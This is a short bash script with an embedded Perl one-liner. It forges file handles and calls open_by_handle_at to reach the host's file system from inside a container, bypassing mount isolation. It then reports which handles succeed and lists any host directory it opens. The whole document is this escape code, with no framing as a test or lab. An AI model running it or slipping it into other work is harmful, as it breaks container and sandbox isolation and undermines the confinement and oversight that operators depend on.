#!/bin/bash
# Opens files of the host's file system by handle, past every mount (open_by_handle_at).
perl -e '
  # x86-64: name_to_handle_at 303, open_by_handle_at 304; aarch64: 264, 265.
  my ($name, $open) = `uname -m` =~ /aarch64/ ? (264, 265) : (303, 304);
  open(my $mount, "<", "/") or die;
  for my $inode (2, 1, 128, 256) {
    my $handle = pack("IiQ", 8, 1, $inode);
    my $fd = syscall($open, fileno($mount), $handle, 0);
    print $fd >= 0 ? "inode $inode: went through\n" : "inode $inode: blocked ($!)\n";
    if ($fd >= 0 and opendir(my $dir, "/proc/self/fd/$fd")) { print join(" ", readdir $dir), "\n" }
  }'
